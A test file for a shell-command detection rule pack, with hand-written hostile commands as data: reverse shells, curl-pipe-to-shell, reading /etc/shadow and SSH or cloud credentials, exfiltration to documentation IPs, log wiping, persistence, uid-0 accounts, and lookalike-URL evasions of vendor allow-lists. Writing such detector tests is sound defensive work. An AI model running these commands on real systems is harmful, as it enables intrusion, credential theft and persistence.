/**
 * One command that must match and one near miss that must not, per built-in rule. These lines are
 * written by hand and kept apart from the corpus the quality bench measures (bench/detect-corpus/).
 */
import { readdirSync } from 'node:fs';
import { basename } from 'node:path';
import { describe, expect, it } from 'vitest';
import { builtinDir, compileRuleSet, evaluate, loadRules } from '../../src/detect/sigma/index.ts';

const cases: Record<string, [hit: string, nearMiss: string]> = {
  st_download_pipe_to_interpreter: [
    'wget -O - https://203.0.113.7/boot | dash',
    'wget -O - https://example.org/notes.txt | less',
  ],
  st_download_then_execute: [
    'curl -o ./agent https://x.test/a && chmod u+x ./agent && ./agent',
    'curl -o notes.txt https://x.test/n && wc -l notes.txt',
  ],
  st_decode_pipe_to_shell: [
    'printf %s aWQK | base64 --decode | zsh',
    'printf %s aWQK | base64 --decode | wc -c',
  ],
  st_computed_command_name: ['$(printf cm0K | base64 -d) -f /srv/app.db', 'ls $(printf /srv)'],
  st_reverse_shell: [
    'zsh -c "zmodload zsh/net/tcp; exec 3<>/dev/tcp/198.51.100.4/8081"',
    'nc -zv 198.51.100.4 8081',
  ],
  st_history_tampering: ['export HISTSIZE=0; whoami', 'export HISTTIMEFORMAT="%F %T "'],
  st_log_file_tampering: ['shred -n1 /var/log/secure-20261201', 'sudo tail -n 200 /var/log/secure'],
  st_logging_agent_stopped: [
    'sudo systemctl mask --now systemd-journald.socket',
    'sudo systemctl reload rsyslog',
  ],
  st_shadow_file_access: ["awk -F: '{print $2}' /etc/shadow", 'stat -c %a /etc/shadow'],
  st_cloud_credentials_access: [
    'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'curl -s http://169.254.169.254/latest/meta-data/hostname',
  ],
  st_ssh_private_key_access: ['xxd ~/.ssh/id_ecdsa', 'ssh-keygen -y -f ~/.ssh/id_ecdsa'],
  st_user_account_created: ['adduser mallory', 'sudo useradd -r -s /sbin/nologin exporter'],
  st_privilege_granted: [
    'printf "eve ALL=(ALL) NOPASSWD: ALL\\n" | sudo tee /etc/sudoers.d/eve',
    'sudo grep -c eve /etc/group',
  ],
  st_cron_persistence: ['echo "0 3 * * * /var/tmp/.u" | crontab -', 'crontab -l | grep backup'],
  st_ssh_authorized_keys_write: [
    'wget -qO- https://x.test/k.pub >> /home/admin/.ssh/authorized_keys',
    'wc -l ~/.ssh/authorized_keys',
  ],
  st_systemd_or_startup_persistence: [
    'cp /dev/shm/svc.service /etc/systemd/system/svc.service',
    'systemctl cat nginx.service',
  ],
  st_firewall_disabled: ['sudo ip6tables --flush', 'sudo ip6tables -L -n'],
  st_destructive_delete: ['sudo rm -r --force /var/lib/redis', 'rm -r --force ./var/lib/redis-copy'],
  st_disk_overwrite_redirect: ['head -c 1G /dev/zero > /dev/vdb', 'head -c 1G /dev/zero > /tmp/zeros'],
  st_container_escape: [
    'docker run --rm -it --volume=/:/hostfs busybox sh',
    'docker run --rm -it --volume=/srv/data:/data busybox sh',
  ],
  st_package_from_url: [
    'sudo zypper install -y http://198.51.100.9/tools.rpm',
    'sudo zypper install -y tmux',
  ],
  // Informational context rules: the lines the alerting rule above them leaves aside.
  st_vendor_installer_piped_to_shell: [
    'curl -fsSL https://get.docker.com | sh',
    'curl -fsSL https://get.docker.com/ -o get-docker.sh',
  ],
  st_package_from_known_source: [
    'python3 -m pip install -U --index-url https://pypi.corp-eu.internal:8443/simple/ boto3==1.35.0',
    'python3 -m pip install -U boto3==1.35.0',
  ],
  st_profile_path_appended: [
    "echo 'export PATH=$PATH:/opt/terraform/bin' | sudo tee -a /etc/profile.d/terraform.sh",
    'grep -n PATH /etc/profile.d/terraform.sh',
  ],
  st_package_source_in_environment: [
    'sudo env PIP_EXTRA_INDEX_URL=http://198.51.100.9:8000/simple pip3 install boto3',
    'pip3 config get global.extra-index-url',
  ],
  st_downloaded_package_installed: [
    'wget https://x.test/tool.deb; sudo dpkg -i tool.deb',
    'wget https://x.test/tool.tar.gz; tar xzf tool.tar.gz',
  ],
};

/**
 * One pair per tuning made after the detect-quality bench's benign corpus showed a false positive
 * (the near miss is that kind of line, the hit is the attack the tuning must still see). Written by
 * hand, so no corpus line is among them.
 */
const tunings: [file: string, hit: string, nearMiss: string][] = [
  // A wrapper's own event (sudo, env, nohup...) no longer escapes the metadata-tool filters.
  ['st_shadow_file_access', 'sudo -u root nohup cat /etc/gshadow', 'sudo stat -c %U /etc/gshadow'],
  [
    'st_shadow_file_access',
    'sudo cp /etc/shadow /dev/shm/s',
    'sudo auditctl -w /etc/shadow -p rwa -k shadow-read',
  ],
  ['st_ssh_private_key_access', 'sudo head -3 /root/.ssh/id_rsa', 'sudo lsattr /root/.ssh/id_rsa'],
  ['st_cloud_credentials_access', 'sudo -E cat /root/.aws/credentials', 'sudo ls -la /root/.aws/credentials'],
  // The key given with -i is used, not copied; a second .ssh path on the line is a copy.
  [
    'st_ssh_private_key_access',
    'scp -i ~/.ssh/ops.pem /root/.ssh/id_ed25519 x@198.51.100.20:/tmp/',
    'scp -i ~/.ssh/ops.pem site.tgz ops@10.9.8.7:/var/tmp/',
  ],
  [
    'st_ssh_private_key_access',
    'rsync -a /home/kim/.ssh/ x@198.51.100.20:/srv/loot/',
    'rsync -a -e "ssh -i /home/kim/.ssh/id_rsa" ./site/ kim@10.9.8.7:/srv/site/',
  ],
  [
    'st_ssh_private_key_access',
    'tar cf /tmp/k.tar /home/kim/.ssh/*',
    'cp ~/.ssh/known_hosts ~/.ssh/known_hosts.old',
  ],
  // *.pem searches count over the whole disk or the home directories only.
  ['st_ssh_private_key_access', 'find /home -iname "*.pem"', 'find /srv/certs -iname "*.pem"'],
  // find over /var/log by age (-mtime +N, N >= 2) is retention; recent files or no age are not.
  [
    'st_log_file_tampering',
    'find /var/log -mtime -2 -name "*.log" -delete',
    'find /var/log/httpd -name "*.log-*" -mtime +21 -delete',
  ],
  [
    'st_log_file_tampering',
    'find /var/log -type f -mtime +1 | xargs truncate -s0',
    'find /var/log -type f -mtime +45 | xargs rm -f',
  ],
  // Reading the cron spool installs nothing; writing into it does.
  [
    'st_cron_persistence',
    'cp /dev/shm/c /var/spool/cron/crontabs/root',
    'sudo ls -l /var/spool/cron/crontabs',
  ],
  // systemctl kill with a reload signal is a reload; any other signal still stops the agent.
  [
    'st_logging_agent_stopped',
    'sudo systemctl kill --signal=SIGKILL rsyslog',
    'sudo systemctl kill --signal=SIGHUP rsyslog',
  ],
  // System accounts are not logins, unless they are a second root or get a login shell.
  [
    'st_user_account_created',
    'useradd -r -o -u 0 -s /usr/sbin/nologin svc-mon',
    'sudo adduser --system --no-create-home --group blackbox',
  ],
  [
    'st_user_account_created',
    'sudo adduser --system --shell /bin/bash svcbak',
    'sudo adduser --system --home /var/lib/exporter exporter',
  ],
  [
    'st_user_account_created',
    'sudo useradd -r -s /bin/bash svcbak',
    'sudo useradd -r -M -s /usr/sbin/nologin exporter',
  ],
  // A repository or key added from a URL installs nothing; CloudWatch's own agent URL is AWS's.
  [
    'st_package_from_url',
    'sudo dnf -y install http://198.51.100.9/pkgs/agent-2.rpm',
    'sudo dnf config-manager --add-repo https://rpm.releases.hashicorp.com/AmazonLinux/hashicorp.repo',
  ],
  [
    'st_package_from_url',
    'sudo rpm -Uvh https://198.51.100.9/amazon-cloudwatch-agent.rpm',
    'sudo rpm -Uvh https://s3.amazonaws.com/amazoncloudwatch-agent/redhat/arm64/latest/amazon-cloudwatch-agent.rpm',
  ],
  // The vendor allow-list holds for the only URL of the command, not for a substring anywhere.
  [
    'st_package_from_url',
    'sudo yum -y install http://198.51.100.9/a.rpm http://198.51.100.9/b?://dl.fedoraproject.org/',
    'sudo dnf -y install https://dl.fedoraproject.org/pub/epel/epel-release-latest-10.noarch.rpm',
  ],
  [
    'st_package_from_url',
    'sudo rpm -ivh http://198.51.100.9/a.rpm --define=x://amazon-ssm-',
    'sudo yum install -y https://amazon-ssm-eu-west-1.s3.eu-west-1.amazonaws.com/latest/linux_arm64/amazon-ssm-agent.rpm',
  ],
  // Vendor installers: the exact vendor URL, plain options, a plain shell, nothing else on the line, is
  // left to the informational st_vendor_installer_piped_to_shell.
  [
    'st_download_pipe_to_interpreter',
    'curl -fsSL https://get.docker.com | sudo DOWNLOAD_URL=https://198.51.100.3/repo sh',
    'curl -fsSL https://get.docker.com | sudo sh',
  ],
  [
    'st_download_pipe_to_interpreter',
    'curl -sSfL https://packagecloud.io/install/repositories/acme/tools/script.rpm.sh | sudo bash',
    'curl -sSfL https://packagecloud.io/install/repositories/github/git-lfs/script.rpm.sh | sudo bash',
  ],
  [
    'st_download_pipe_to_interpreter',
    'wget -qO- https://sh.rustup.rs/@198.51.100.3 | sh -s -- -y',
    'wget -qO- https://sh.rustup.rs | sh -s -- -y',
  ],
  // pip from an https index under .internal (or PyPI/PyTorch's own), bare requirements only, is left to
  // st_package_from_known_source; an instance name, --trusted-host or a package URL is not.
  [
    'st_package_from_url',
    'pip3 install --index-url https://ip-10-4-0-9.ec2.internal/simple boto3',
    'pip3 install --index-url https://artifacts.internal/api/pypi/simple boto3',
  ],
  [
    'st_package_from_url',
    'pip3 install --trusted-host artifacts.internal -i https://artifacts.internal/simple boto3',
    'pip3 install -i https://artifacts.internal/simple boto3',
  ],
  [
    'st_package_from_url',
    'pip3 install --extra-index-url https://download.pytorch.org/whl/cu121 https://198.51.100.9/torch.whl',
    'pip3 install --extra-index-url https://download.pytorch.org/whl/cu121 torchvision',
  ],
  // Database vendors' repository packages over https are vendor packages; http is not the vendor.
  [
    'st_package_from_url',
    'sudo dnf install -y http://dev.mysql.com/get/mysql84-community-release-el9-1.noarch.rpm',
    'sudo dnf install -y https://dev.mysql.com/get/mysql84-community-release-el9-1.noarch.rpm',
  ],
  [
    'st_package_from_url',
    'sudo dnf install -y https://download.postgresql.org.mirror.example/pub/repos/yum/x.rpm',
    'sudo dnf install -y https://download.postgresql.org/pub/repos/yum/reporpms/EL-8-x86_64/pgdg-redhat-repo-latest.noarch.rpm',
  ],
  // One single-quoted `export PATH=$PATH:<dir>` appended to the profile is left to
  // st_profile_path_appended; a prepended, world-writable or double-quoted PATH, or an overwrite, is not.
  [
    'st_systemd_or_startup_persistence',
    "echo 'export PATH=/dev/shm/.b:$PATH' | sudo tee -a /etc/profile.d/terraform.sh",
    "echo 'export PATH=$PATH:/opt/terraform/bin' | sudo tee -a /etc/profile.d/packer.sh",
  ],
  [
    'st_systemd_or_startup_persistence',
    "echo 'export PATH=$PATH:/opt/terraform/bin' | sudo tee /etc/profile.d/terraform.sh",
    "echo 'export PATH=$PATH:$HOME/go/bin' | sudo tee -a /etc/profile",
  ],
  [
    'st_systemd_or_startup_persistence',
    'echo "export PATH=$PATH:/opt/terraform/bin" | sudo tee -a /etc/profile',
    "echo 'export PATH=$PATH:/snap/bin' | sudo tee -a /etc/profile",
  ],
];

const { rules, report } = loadRules({ builtin: true, dirs: [] });
const set = compileRuleSet(rules);
const contextRules = new Set([
  'st_vendor_installer_piped_to_shell',
  'st_package_from_known_source',
  'st_profile_path_appended',
]);
/** Matches that raise an alert (detect-quality's count: level low or above). */
const counted = (text: string) => evaluate(set, { text }).filter((r) => r.level !== 'informational');
const ruleFile = (id: string) => basename(rules.find((r) => r.id === id)!.source, '.yml');

describe('built-in rule pack', () => {
  it('loads every file, each with id, author, level, ATT&CK tags and false-positive notes', () => {
    const files = readdirSync(builtinDir).filter((f) => f.endsWith('.yml'));
    expect(report).toMatchObject({ loaded: files.length, skipped: [], notApplicable: [] });
    expect(Object.keys(cases).sort()).toEqual(files.map((f) => basename(f, '.yml')).sort());
    for (const rule of rules) {
      expect(rule.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
      expect(rule.author).toBe('shelltrail');
      expect(rule.tags.some((t) => /^attack\.t\d{4}/.test(t))).toBe(true);
      expect(rule.falsepositives?.length).toBeGreaterThan(0);
      // Context rules are informational (they count neither way in detect-quality); every other
      // rule raises an alert.
      if (contextRules.has(basename(rule.source, '.yml'))) expect(rule.level).toBe('informational');
      else expect(['low', 'medium', 'high', 'critical']).toContain(rule.level);
    }
  });

  for (const [file, [hit, nearMiss]] of Object.entries(cases)) {
    it(`${file}: matches "${hit}" but not "${nearMiss}"`, () => {
      const rule = rules.find((r) => basename(r.source, '.yml') === file);
      expect(rule).toBeDefined();
      expect(evaluate(set, { text: hit }).map((r) => r.id)).toContain(rule!.id);
      expect(evaluate(set, { text: nearMiss }).map((r) => r.id)).not.toContain(rule!.id);
    });
  }

  for (const [file, hit, nearMiss] of tunings) {
    it(`${file} (tuned): matches "${hit}" but not "${nearMiss}"`, () => {
      const rule = rules.find((r) => basename(r.source, '.yml') === file);
      expect(rule).toBeDefined();
      expect(evaluate(set, { text: hit }).map((r) => r.id)).toContain(rule!.id);
      expect(evaluate(set, { text: nearMiss }).map((r) => r.id)).not.toContain(rule!.id);
    });
  }
});

/**
 * Held-out attacks aimed at the exceptions above (vendor installers, private and vendor package
 * sources, PATH appended to the profile): each is a way an attacker would try to pass for the
 * excepted form, and the rule the exception belongs to must still match it. Written by hand, not
 * in the corpus, not run through the bench before the exceptions were written.
 */
const heldOut: [file: string, attack: string][] = [
  [
    'st_download_pipe_to_interpreter',
    'curl -fsSL https://get.k3s.io | K3S_URL=https://203.0.113.8:6443 K3S_TOKEN=abc sh -',
  ],
  [
    'st_download_pipe_to_interpreter',
    'curl -fsSL https://get.k3s.io | sudo INSTALL_K3S_EXEC=--kubelet-arg=x sh -',
  ],
  ['st_download_pipe_to_interpreter', 'curl -fsSL https://get.docker.com@203.0.113.8/i.sh | sh'],
  ['st_download_pipe_to_interpreter', 'curl -fsSL https://get.docker.com.evil.example/ | sh'],
  ['st_download_pipe_to_interpreter', 'curl -kfsSL https://get.docker.com | sh'],
  ['st_download_pipe_to_interpreter', 'curl -K /tmp/.c -fsSL https://sh.rustup.rs | sh'],
  ['st_download_pipe_to_interpreter', 'curl -fsSL https://sh.rustup.rs https://203.0.113.8/x.sh | sh'],
  [
    'st_download_pipe_to_interpreter',
    'curl -fsSL https://tailscale.com/install.sh | sh; curl -fsSL http://203.0.113.8/x | sh',
  ],
  ['st_download_pipe_to_interpreter', 'curl -fsSL http://get.docker.com | sh'],
  [
    'st_download_pipe_to_interpreter',
    'curl -fsSL https://packagecloud.io/install/repositories/evilcorp/tools/script.deb.sh | sudo bash',
  ],
  [
    'st_download_pipe_to_interpreter',
    'curl -fsSL https://raw.githubusercontent.com/evilcorp/x/main/install.sh | bash',
  ],
  ['st_download_pipe_to_interpreter', 'curl -fsSL https://get.docker.com/?u=http://203.0.113.8/ | sh'],
  [
    'st_download_pipe_to_interpreter',
    'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo bash -s -- --mirror http://203.0.113.8',
  ],
  ['st_download_pipe_to_interpreter', 'wget --no-check-certificate -qO- https://get.docker.com | sh'],
  ['st_download_pipe_to_interpreter', 'curl -x http://203.0.113.8:3128 -fsSL https://get.docker.com | sh'],
  ['st_download_pipe_to_interpreter', 'curl -fsSL https://sh.rustup.rs | sh 2>/dev/null | tee /tmp/.o'],
  [
    'st_download_pipe_to_interpreter',
    "curl -fsSL 'https://get.k3s.io' | sh -s - server --token x --server https://203.0.113.8:6443",
  ],
  ['st_package_from_url', 'pip install --index-url https://pypi.internal.evil.example/simple requests'],
  ['st_package_from_url', 'pip install --index-url https://nexus.internal@203.0.113.8/simple requests'],
  ['st_package_from_url', 'pip install --index-url https://nexus.internal:443@evil.example/simple requests'],
  ['st_package_from_url', 'pip install --index-url http://nexus.internal/simple requests'],
  [
    'st_package_from_url',
    'pip install --trusted-host nexus.internal --index-url https://nexus.internal/simple requests',
  ],
  [
    'st_package_from_url',
    'pip install --index-url https://nexus.internal/simple --cert /tmp/ca.pem requests',
  ],
  ['st_package_from_url', 'pip install --index-url https://ip-10-0-3-7.ec2.internal/simple requests'],
  [
    'st_package_from_url',
    'pip3 install -i https://ip-172-31-9-4.eu-west-1.compute.internal:8443/simple boto3',
  ],
  ['st_package_from_url', 'pip install --extra-index-url https://203.0.113.8/simple requests'],
  ['st_package_from_url', 'pip install --index-url https://nexus.internal/simple https://203.0.113.8/x.whl'],
  ['st_package_from_url', 'pip install --index-url https://nexus.internal/simple -r /tmp/req.txt'],
  [
    'st_package_from_url',
    'pip install -i https://nexus.internal/simple --find-links https://203.0.113.8/w/ requests',
  ],
  ['st_package_from_url', 'pip install --index-url https://evil.example/.internal/simple requests'],
  ['st_package_from_url', 'python3 -m pip install --index-url https://pypi.org.evil.example/simple requests'],
  [
    'st_package_from_url',
    'pip install --extra-index-url https://download.pytorch.org.evil.example/whl torch',
  ],
  ['st_package_from_url', 'pip install --index-url https://localhost:8443/simple requests'],
  [
    'st_package_from_url',
    'pip install --index-url https://nexus.internal/simple git+https://203.0.113.8/x.git',
  ],
  ['st_package_from_url', 'sudo yum install -y https://dev.mysql.com.evil.example/get/x.rpm'],
  [
    'st_package_from_url',
    'sudo dnf install -y http://dev.mysql.com/get/mysql80-community-release-el9-5.noarch.rpm',
  ],
  ['st_package_from_url', 'sudo yum install -y https://dev.mysql.com/get/x.rpm https://203.0.113.8/y.rpm'],
  ['st_package_from_url', 'sudo rpm -ivh https://download.postgresql.org@203.0.113.8/pub/repos/x.rpm'],
  [
    'st_package_from_url',
    'sudo dnf install -y https://download.postgresql.org/pub/repos/x.rpm?u=http://203.0.113.8/y.rpm',
  ],
  ['st_package_from_url', 'sudo yum install -y https://203.0.113.8/dev.mysql.com/get/x.rpm'],
  [
    'st_package_from_url',
    'sudo rpm -Uvh http://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm',
  ],
  ['st_systemd_or_startup_persistence', "echo 'export PATH=/tmp/.x:$PATH' | sudo tee -a /etc/profile"],
  ['st_systemd_or_startup_persistence', 'echo "export PATH=$PATH:/usr/local/bin" | sudo tee -a /etc/profile'],
  ['st_systemd_or_startup_persistence', "echo 'export PATH=$PATH:/tmp' | sudo tee -a /etc/profile"],
  [
    'st_systemd_or_startup_persistence',
    "echo 'export PATH=$PATH:/usr/local/bin; curl -s http://203.0.113.8/p | sh' | sudo tee -a /etc/profile",
  ],
  ['st_systemd_or_startup_persistence', "echo 'export PATH=$PATH:/usr/../tmp/x' | sudo tee -a /etc/profile"],
  [
    'st_systemd_or_startup_persistence',
    "echo 'export PATH=$PATH:/usr/local/bin' | sudo tee /etc/profile.d/00-audit.sh",
  ],
  [
    'st_systemd_or_startup_persistence',
    "echo 'export PATH=$PATH:$(curl -s http://203.0.113.8/p)' | sudo tee -a /etc/profile",
  ],
  [
    'st_systemd_or_startup_persistence',
    "echo 'export PATH=$PATH:/usr/local/bin' | sudo tee -a /etc/profile.d/../../etc/cron.d/x",
  ],
  [
    'st_systemd_or_startup_persistence',
    "echo 'export PATH=$PATH:/usr/local/bin' | sudo tee -a /etc/profile /etc/bash.bashrc /etc/rc.local",
  ],
  [
    'st_systemd_or_startup_persistence',
    "echo 'export PATH=$PATH:/opt/x/bin' > /tmp/p; echo 'curl -s http://203.0.113.8/p|sh' | sudo tee -a /etc/profile",
  ],
  [
    'st_package_source_in_environment',
    'PIP_TRUSTED_HOST=nexus.internal pip install --index-url https://nexus.internal/simple requests',
  ],
  [
    'st_package_source_in_environment',
    'PIP_CERT=/tmp/.ca.pem pip install --index-url https://nexus.internal/simple requests',
  ],
  ['st_package_source_in_environment', 'PIP_INDEX_URL=http://203.0.113.8:8080/simple pip install requests'],
  [
    'st_package_source_in_environment',
    'export PIP_EXTRA_INDEX_URL=https://203.0.113.8/simple; pip install -U boto3',
  ],
  ['st_package_source_in_environment', 'pip config set global.index-url http://203.0.113.8/simple'],
  ['st_package_source_in_environment', 'sudo pip3 config --global set global.trusted-host 203.0.113.8'],
];

/**
 * The 40 held-out attack lines of the first tuning round (147fea1), aimed at the tunings of a8b4a1a:
 * each must still raise an alert.
 */
const heldOutFirstRound: string[] = [
  'sudo cat /etc/shadow',
  'sudo -u root cat /etc/shadow | tee /tmp/h',
  'env -i cat /etc/gshadow',
  'nohup cp /etc/shadow /var/tmp/.s &',
  'sudo tar czf /tmp/k.tgz /root/.ssh',
  'sudo cp /root/.ssh/id_rsa /tmp/.k',
  'scp /home/ubuntu/.ssh/id_ed25519 x@203.0.113.4:/tmp/',
  'zip -r /tmp/s.zip ~/.ssh/',
  'rsync -av ~/.ssh/ x@203.0.113.4:/tmp/s/',
  'sudo find / -name "*.pem" -exec cat {} \\;',
  'find ~ -name "*.pem"',
  'sudo base64 /root/.ssh/id_ecdsa',
  'sudo cat /root/.aws/credentials',
  'nice -n 5 cat ~/.aws/credentials',
  'find /var/log -type f -delete',
  'find /var/log -name "*.log" -exec truncate -s 0 {} +',
  'find /var/log/ -mmin -60 -delete',
  'sudo find /var/log -type f -mtime -1 -exec rm {} \\;',
  'echo "* * * * * root /tmp/x" > /var/spool/cron/crontabs/root',
  'tee -a /var/spool/cron/root <<< "* * * * * /tmp/x"',
  'sudo systemctl kill auditd',
  'systemctl kill -s SIGKILL amazon-ssm-agent',
  'systemctl kill -s 9 rsyslog',
  'sudo systemctl stop rsyslog',
  'useradd -M -s /sbin/nologin -o -u 0 sysd',
  'sudo useradd --system -u 0 -o -s /bin/bash sync2',
  'adduser eve',
  'useradd -m -G sudo eve',
  'sudo rpm -i http://203.0.113.9/x.rpm',
  'yum -y localinstall http://203.0.113.9/a.rpm',
  'sudo dnf upgrade -y https://203.0.113.9/b.rpm',
  'zypper in -y http://203.0.113.9/c.rpm',
  'apt-get install -y https://203.0.113.9/d.deb',
  'pip install https://203.0.113.9/e.tar.gz',
  'sudo auditctl -e 0',
  'sudo ls /etc/shadow; sudo cat /etc/shadow',
  'cat /home/*/.ssh/id_rsa',
  'tar cf - /root/.ssh | nc 203.0.113.4 9001',
  'scp -i ~/.ssh/k.pem ~/.ssh/id_rsa x@203.0.113.4:',
  'sudo useradd -r -s /bin/bash backup2',
];

describe('held-out attacks against the tunings', () => {
  it.each(heldOut)('%s matches %s', (file, attack) => {
    expect(counted(attack).map((r) => ruleFile(r.id))).toContain(file);
  });
  it.each(heldOutFirstRound)('raises an alert: %s', (attack) => {
    expect(counted(attack).length).toBeGreaterThan(0);
  });
  it('has more than 40 lines aimed at the exceptions', () => {
    expect(new Set(heldOut.map(([, a]) => a)).size).toBeGreaterThanOrEqual(40);
    expect(new Set(heldOutFirstRound).size).toBe(40);
  });
});

/**
 * What the exceptions leave aside still shows: each near miss of the tunings above that an
 * exception covers raises no alert and is reported by its informational context rule.
 */
const shownAsContext: [file: string, line: string][] = [
  ['st_vendor_installer_piped_to_shell', 'curl -fsSL https://get.docker.com | sudo sh'],
  [
    'st_vendor_installer_piped_to_shell',
    'curl -sSfL https://packagecloud.io/install/repositories/github/git-lfs/script.rpm.sh | sudo bash',
  ],
  ['st_vendor_installer_piped_to_shell', 'wget -qO- https://sh.rustup.rs | sh -s -- -y'],
  [
    'st_package_from_known_source',
    'pip3 install --index-url https://artifacts.internal/api/pypi/simple boto3',
  ],
  ['st_package_from_known_source', 'pip3 install -i https://artifacts.internal/simple boto3'],
  [
    'st_package_from_known_source',
    'pip3 install --extra-index-url https://download.pytorch.org/whl/cu121 torchvision',
  ],
  [
    'st_package_from_known_source',
    'sudo dnf install -y https://dev.mysql.com/get/mysql84-community-release-el9-1.noarch.rpm',
  ],
  [
    'st_package_from_known_source',
    'sudo rpm -Uvh https://s3.amazonaws.com/amazoncloudwatch-agent/redhat/arm64/latest/amazon-cloudwatch-agent.rpm',
  ],
  [
    'st_profile_path_appended',
    "echo 'export PATH=$PATH:/opt/terraform/bin' | sudo tee -a /etc/profile.d/packer.sh",
  ],
  ['st_profile_path_appended', "echo 'export PATH=$PATH:$HOME/go/bin' | sudo tee -a /etc/profile"],
];

describe('lines left to the informational context rules', () => {
  it.each(shownAsContext)('%s reports %s, and nothing raises an alert', (file, line) => {
    expect(counted(line)).toEqual([]);
    expect(evaluate(set, { text: line }).map((r) => ruleFile(r.id))).toContain(file);
  });
});
